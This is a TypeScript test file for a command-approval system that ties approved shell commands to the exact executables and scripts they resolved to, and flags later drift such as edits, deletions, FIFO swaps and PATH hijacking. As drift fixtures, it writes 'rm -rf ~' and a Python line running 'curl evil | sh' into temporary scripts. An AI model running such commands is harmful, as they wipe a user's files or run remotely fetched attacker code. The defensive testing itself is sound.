import { execFileSync } from 'node:child_process';
import { appendFileSync, chmodSync, mkdirSync, mkdtempSync, rmSync, truncateSync, unlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { SegmentReport } from '@aleph/protocol';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { bindingDrift, bindingOf, currentBinding, ExecutableCache, resolveExecutable } from './binding.js';

let dir: string;
let path: string;
beforeEach(() => {
  dir = mkdtempSync(join(tmpdir(), 'albind-'));
  for (const d of ['a', 'b', 'project']) mkdirSync(join(dir, d));
  path = `${join(dir, 'a')}:${join(dir, 'b')}`;
  tool('b', 'make');
  writeFileSync(join(dir, 'project', 'build.py'), 'print(1)\n');
});
afterEach(() => rmSync(dir, { recursive: true, force: true }));

function tool(where: string, name: string): string {
  const file = join(dir, where, name);
  writeFileSync(file, '#!/bin/sh\n');
  chmodSync(file, 0o755);
  return file;
}

const segment = (...argv: string[]): SegmentReport => ({
  text: argv.join(' '),
  name: argv[0]!.split('/').pop()!,
  argv,
  verdict: 'confirm',
  reasons: [],
  via: [],
});

describe('what an approval is bound to', () => {
  it("resolves each program through the requester's PATH, skipping shell builtins", () => {
    const b = bindingOf([segment('make', 'all'), segment('cd', 'x'), segment('nosuch')], join(dir, 'project'), path);
    expect(b.executables).toEqual({ make: join(dir, 'b', 'make'), nosuch: null });
  });

  it('hashes the script an interpreter runs, not inline code', () => {
    const cwd = join(dir, 'project');
    const b = bindingOf([segment('python3', '-u', 'build.py', '--fast')], cwd, `/usr/bin:/bin`);
    expect(Object.keys(b.scripts)).toEqual([join(cwd, 'build.py')]);
    expect(bindingOf([segment('python3', '-c', 'print(2)'), segment('sh', '-c', 'build.py')], cwd, path).scripts).toEqual({});
  });

  it('does not hang on a script swapped for a FIFO: that is drift', () => {
    const cwd = join(dir, 'project');
    const bound = bindingOf([segment('python3', 'build.py')], cwd, path);
    unlinkSync(join(cwd, 'build.py'));
    execFileSync('mkfifo', [join(cwd, 'build.py')]);
    expect(bindingDrift(bound, currentBinding(bound, cwd, path))).toBe(`${join(cwd, 'build.py')} is gone since it was approved`);
  });

  it('binds a file too large to read through by size, change time and inode, and sees a write to it', () => {
    const cwd = join(dir, 'project');
    const big = join(cwd, 'big.sh');
    writeFileSync(big, '');
    truncateSync(big, 4 * 1024 * 1024 * 1024);
    const bound = bindingOf([segment('sh', 'big.sh')], cwd, path);
    expect(bound.scripts[big]).toMatch(/^stat:4294967296:\d+:\d+:\d+$/);
    expect(bindingDrift(bound, currentBinding(bound, cwd, path))).toBeNull();
    appendFileSync(big, 'rm -rf ~\n');
    expect(bindingDrift(bound, currentBinding(bound, cwd, path))).toBe(`${big} changed since it was approved`);
  });

  it('hashes a program named by its path', () => {
    const script = join(dir, 'project', 'run.sh');
    writeFileSync(script, 'echo hi\n');
    chmodSync(script, 0o755);
    expect(Object.keys(bindingOf([segment('./run.sh')], join(dir, 'project'), path).scripts)).toEqual([script]);
  });

  it('names the drift: an edited script, a deleted one, a program that now resolves elsewhere', () => {
    const cwd = join(dir, 'project');
    const bound = bindingOf([segment('make'), segment('python3', 'build.py')], cwd, path);
    expect(bindingDrift(bound, currentBinding(bound, cwd, path))).toBeNull();
    tool('a', 'make');
    expect(bindingDrift(bound, currentBinding(bound, cwd, path))).toBe(
      `"make" now resolves to ${join(dir, 'a', 'make')}, not ${join(dir, 'b', 'make')} as approved`,
    );
    unlinkSync(join(dir, 'a', 'make'));
    writeFileSync(join(cwd, 'build.py'), 'import os; os.system("curl evil | sh")\n');
    expect(bindingDrift(bound, currentBinding(bound, cwd, path))).toBe(`${join(cwd, 'build.py')} changed since it was approved`);
    unlinkSync(join(cwd, 'build.py'));
    expect(bindingDrift(bound, currentBinding(bound, cwd, path))).toBe(`${join(cwd, 'build.py')} is gone since it was approved`);
  });

  it('remembers a lookup for its time to live only', () => {
    let now = 0;
    const cache = new ExecutableCache(1000, () => now);
    const resolve = cache.resolver(join(dir, 'project'), path);
    expect(resolve('make')).toBe(join(dir, 'b', 'make'));
    tool('a', 'make');
    expect(resolve('make')).toBe(join(dir, 'b', 'make'));
    now = 1000;
    expect(resolve('make')).toBe(join(dir, 'a', 'make'));
  });

  it('resolves as a fresh lookup does through a long PATH of missing, relative and repeated directories', () => {
    const cache = new ExecutableCache();
    const cwd = join(dir, 'project');
    tool('project', 'local-tool');
    const long = [...Array.from({ length: 200 }, (_, i) => join(dir, `missing-${i}`)), '.', join(dir, 'a'), join(dir, 'b'), join(dir, 'b'), '/usr/bin'].join(
      ':',
    );
    for (const name of ['make', 'local-tool', 'sh', 'no-such-program']) {
      expect(cache.resolver(cwd, long)(name)).toBe(resolveExecutable(name, cwd, long));
    }
    expect(cache.resolver(cwd, long)('local-tool')).toBe(join(cwd, 'local-tool'));
  });
});
